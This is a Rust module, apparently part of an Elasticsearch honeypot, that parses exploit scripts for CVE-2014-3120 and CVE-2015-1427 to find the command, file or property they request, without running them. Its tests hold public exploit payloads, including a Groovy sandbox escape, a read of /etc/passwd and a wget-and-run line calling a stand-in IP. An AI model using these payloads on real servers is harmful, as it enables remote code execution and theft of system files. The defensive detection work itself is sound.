//! What a script would do: the ways in which public exploits of CVE-2014-3120 (MVEL) and CVE-2015-1427 (Groovy behind a sandbox that leaks)
//! run a command, read a file or ask for a property. The script is never interpreted: what it asks for is found in its text, and a
//! command goes to the machine behind the login, which runs nothing either.

use super::json::Json;

/// Commands found in one request, at most.
const SCRIPTS: usize = 4;
/// Bytes of a script that are looked at.
const LONGEST: usize = 32 * 1024;

/// What a script asks for.
#[derive(Clone, Debug, PartialEq)]
pub(super) enum Wish {
    /// `Runtime.exec`, `execute()`, `ProcessBuilder`: a line for a shell, and whether the script reads what it prints.
    Command(String, bool),
    /// The text of a file.
    File(String),
    /// A value that is known without running anything.
    Value(Json),
    /// Something else.
    Unknown,
}

/// Every script in a body, with its name where it is a script field.
pub(super) fn scripts(body: &Json) -> Vec<(String, String)> {
    let mut found = Vec::new();
    collect("", body, &mut found);
    found
}

fn collect(name: &str, value: &Json, found: &mut Vec<(String, String)>) {
    if found.len() >= SCRIPTS {
        return;
    }
    if let Json::List(items) = value {
        items.iter().for_each(|item| collect(name, item, found));
    }
    for (key, inner) in value.fields() {
        let text = match key.as_str() {
            "script" | "inline" | "source" | "exp" => inner.text(),
            _ => None,
        };
        match text {
            Some(text) if key == "script" || is_script(text) => {
                found.push((name.to_owned(), text.to_owned()));
            }
            _ => collect(if key == "script" { name } else { key }, inner, found),
        }
        if found.len() >= SCRIPTS {
            return;
        }
    }
}

fn is_script(text: &str) -> bool {
    ["exec", "Runtime", "java.", "import ", "getProperty"].iter().any(|word| text.contains(word))
}

/// What a script asks for.
pub(super) fn wish(script: &str) -> Wish {
    let script: String = script.chars().take(LONGEST).collect();
    let reads =
        ["getText", "text", "Scanner", "InputStream", "BufferedReader", "readLine", "IOUtils"]
            .iter()
            .any(|word| script.contains(word));
    for mark in ["exec(", "ProcessBuilder(", ".command("] {
        for (at, _) in script.match_indices(mark) {
            let texts = literals(arguments(&script[at + mark.len()..]));
            if let Some(line) = line_of(&texts) {
                return Wish::Command(line, reads);
            }
        }
    }
    if let Some(at) = script.find(".execute(")
        && let Some(line) = literals(&script[..at]).last().cloned()
    {
        return Wish::Command(words(&line), reads);
    }
    for mark in ["File(", "FileReader(", "FileInputStream("] {
        if let Some(at) = script.find(mark)
            && let Some(path) = literals(arguments(&script[at + mark.len()..])).into_iter().next()
        {
            return Wish::File(path);
        }
    }
    // A command that was put into a variable before.
    if script.contains("exec(")
        && let Some(line) = literals(&script)
            .into_iter()
            .find(|text| !text.starts_with("java.") && !text.is_empty())
    {
        return Wish::Command(words(&line), reads);
    }
    value(&script).map_or(Wish::Unknown, Wish::Value)
}

/// The line that a script in Java's family has run, whatever it does with what that prints.
pub(crate) fn command_of(script: &str) -> Option<String> {
    match wish(script) {
        Wish::Command(line, _) => Some(line),
        _ => None,
    }
}

/// The file that it reads.
pub(crate) fn file_of(script: &str) -> Option<String> {
    match wish(script) {
        Wish::File(path) => Some(path),
        _ => None,
    }
}

/// What stands between a bracket and the one that closes it.
fn arguments(text: &str) -> &str {
    let (mut depth, mut quote, mut escaped) = (1, None, false);
    for (at, letter) in text.char_indices() {
        match (quote, letter) {
            _ if escaped => escaped = false,
            (Some(_), '\\') => escaped = true,
            (Some(open), letter) if open == letter => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(letter),
            (None, '(') => depth += 1,
            (None, ')') => {
                depth -= 1;
                if depth == 0 {
                    return &text[..at];
                }
            }
            _ => {}
        }
    }
    text
}

/// The texts in quotes.
fn literals(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut letters = text.chars();
    while let Some(open) = letters.next() {
        if open != '"' && open != '\'' {
            continue;
        }
        let mut literal = String::new();
        loop {
            match letters.next() {
                Some('\\') => match letters.next() {
                    Some('n') => literal.push('\n'),
                    Some('t') => literal.push('\t'),
                    Some(other) => literal.push(other),
                    None => return found,
                },
                Some(letter) if letter == open => break,
                Some(letter) => literal.push(letter),
                None => return found,
            }
        }
        found.push(literal);
    }
    found
}

/// The line for a shell: what follows `-c`, or the one text, or several as words.
fn line_of(texts: &[String]) -> Option<String> {
    let flag = texts.iter().position(|text| text == "-c" || text == "/c");
    match (flag.and_then(|at| texts.get(at + 1)), texts) {
        (Some(line), _) => Some(line.clone()),
        (None, []) => None,
        (None, [line]) => Some(words(line)),
        (None, several) => {
            Some(several.iter().map(|word| quote(word)).collect::<Vec<_>>().join(" "))
        }
    }
}

/// `Runtime.exec` takes words apart at spaces and knows no shell.
fn words(line: &str) -> String {
    line.split_whitespace().map(quote).collect::<Vec<_>>().join(" ")
}

fn quote(word: &str) -> String {
    let plain = |letter: char| letter.is_ascii_alphanumeric() || "/._-+:=,@%".contains(letter);
    if !word.is_empty() && word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// Properties of the Java machine, sums and plain texts, with which scanners look whether a script runs.
fn value(script: &str) -> Option<Json> {
    const PROPERTIES: [(&str, &str); 8] = [
        ("os.name", "Linux"),
        ("os.arch", "amd64"),
        ("java.io.tmpdir", "/tmp"),
        ("user.name", "root"),
        ("user.dir", "/usr/share/elasticsearch"),
        ("java.version", "1.7.0_65"),
        ("file.separator", "/"),
        ("user.home", "/root"),
    ];
    if let Some(at) = script.find("getProperty(") {
        let name = literals(arguments(&script[at + 12..])).into_iter().next()?;
        let found = PROPERTIES.iter().find(|(property, _)| *property == name);
        return Some(found.map_or(Json::Null, |(_, value)| (*value).into()));
    }
    let script = script.trim().trim_end_matches(';');
    for (sign, act) in [
        ('*', i64::checked_mul as fn(i64, i64) -> Option<i64>),
        ('+', i64::checked_add),
        ('-', i64::checked_sub),
    ] {
        if let Some((one, other)) = script.split_once(sign)
            && let (Ok(one), Ok(other)) = (one.trim().parse(), other.trim().parse())
        {
            return act(one, other).map(Json::from);
        }
    }
    if let Ok(number) = script.parse::<i64>() {
        return Some(number.into());
    }
    let quoted = script.len() > 1
        && (script.starts_with('"') && script.ends_with('"')
            || script.starts_with('\'') && script.ends_with('\''));
    quoted.then(|| literals(script).concat().into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn public_exploits_are_understood() {
        let command = |line: &str| Wish::Command(line.to_owned(), true);
        let mvel = r#"import java.util.*; import java.io.*; new java.util.Scanner(Runtime.getRuntime().exec("cat /etc/passwd").getInputStream()).useDelimiter("\\A").next();"#;
        assert_eq!(wish(mvel), command("cat /etc/passwd"));
        let groovy = r#"java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()"#;
        assert_eq!(wish(groovy), command("id"));
        let shell = r#"Runtime.getRuntime().exec(new String[]{"/bin/bash","-c","wget http://198.51.100.1/a; sh a"}).text"#;
        assert_eq!(wish(shell), command("wget http://198.51.100.1/a; sh a"));
        assert_eq!(wish(r#""uname -a".execute().text"#), command("uname -a"));
        assert_eq!(wish(r#"exec("a;b").text"#), command("'a;b'"));
        let file =
            r#"new java.util.Scanner(new java.io.File("/etc/hosts")).useDelimiter("\\Z").next()"#;
        assert_eq!(wish(file), Wish::File("/etc/hosts".to_owned()));
        let property = r#"java.lang.Math.class.forName("java.lang.System").getProperty("os.name")"#;
        assert_eq!(wish(property), Wish::Value("Linux".into()));
        assert_eq!((wish("6*7"), wish("doc['x']")), (Wish::Value(42.into()), Wish::Unknown));
    }

    #[test]
    fn scripts_are_found_under_their_names() {
        let body = Json::read(br#"{"size":1,"script_fields":{"x":{"script":"1+1"},"y":{"script":{"lang":"groovy","source":"java.x"}}}}"#).unwrap();
        assert_eq!(
            scripts(&body),
            [("x".to_owned(), "1+1".to_owned()), ("y".to_owned(), "java.x".to_owned())]
        );
    }
}
